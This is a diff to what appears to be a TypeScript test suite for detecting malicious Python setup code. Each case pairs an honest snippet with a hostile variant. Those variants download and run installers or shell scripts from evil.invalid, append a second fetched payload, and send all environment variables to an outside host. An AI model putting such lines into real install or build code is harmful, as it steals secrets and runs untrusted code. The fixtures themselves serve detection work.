@@ -34,6 +34,28 @@ const COMPARE = [
   '        raise SystemExit("not the archive that is known")',
 ];
 
+const UPGRADE = (address: string): string[] => [
+  'import os, requests, subprocess',
+  'def upgrade(folder):',
+  '    path = os.path.join("/tmp", "setup.msi")',
+  '    with open(path, "wb") as file:',
+  `        file.write(requests.get("${address}").content)`,
+  '    subprocess.call(["msiexec.exe", "/i", path])',
+];
+const OWN_ADDRESS = [
+  'import os, requests, socket',
+  'with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:',
+  '    probe.connect(("8.8.8.8", 80))',
+  '    own = probe.getsockname()[0]',
+  'peer = own',
+];
+const DROP = (program: string, text: string): string[] => [
+  'import subprocess',
+  'with open("/tmp/info.plist", "w") as file:',
+  `    file.write("<!DOCTYPE plist '${text}'>")`,
+  `subprocess.call("${program}/tmp/info.plist", shell=True)`,
+];
+
 /** What somebody honest does, and what differs from it in one point and is not honest. */
 test.each<[what: string, path: string, honest: readonly string[], other: readonly string[]]>([
   [
@@ -67,6 +89,47 @@ test.each<[what: string, path: string, honest: readonly string[], other: readonl
       'version = subprocess.check_output(["env"]).decode()',
       'urllib.request.urlretrieve("https://evil.invalid/" + version, "x.whl")',
     ],
+  ],
+  [
+    'an installer from the maker of a tool, when it is called',
+    'pkg/upgrade.py',
+    UPGRADE('https://aka.ms/fixture'),
+    UPGRADE('https://evil.invalid/fixture'),
+  ],
+  [
+    'and nothing else',
+    'pkg/upgrade.py',
+    UPGRADE('https://nodejs.org/fixture'),
+    UPGRADE('https://nodejs.org/fixture').map((line) =>
+      line.replace('.content)', '.content + requests.get("https://evil.invalid/x").content)'),
+    ),
+  ],
+  [
+    "the installer of a tool, by its maker's instructions",
+    'setup.py',
+    ['import os', 'os.system("curl --proto \'=https\' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y")'],
+    ['import os', 'os.system("curl -sSf https://evil.invalid/x | sh # https://sh.rustup.rs")'],
+  ],
+  [
+    'and over TLS',
+    'setup.py',
+    ['import os', 'os.system("curl -LsSf https://astral.sh/uv/install.sh | sh")'],
+    ['import os', 'os.system("curl -LsSf http://astral.sh/uv/install.sh | sh")'],
+  ],
+  [
+    'the address of the machine itself among the settings of a cluster',
+    'pkg/__main__.py',
+    [...OWN_ADDRESS, 'requests.post(f"http://{peer}/join", json={"from": own, "all": dict(os.environ)})'],
+    [
+      ...OWN_ADDRESS,
+      'requests.post("http://evil.invalid/join", json={"from": own, "all": dict(os.environ)})',
+    ],
+  ],
+  [
+    'a file of a build that names a site in its text',
+    'setup.py',
+    DROP('tool --in ', 'http://evil.invalid.com/DTDs'),
+    DROP('tool.bat --in ', 'http://evil.invalid.com/DTDs'),
   ],
   [
     'files in a folder that tell which version is there',
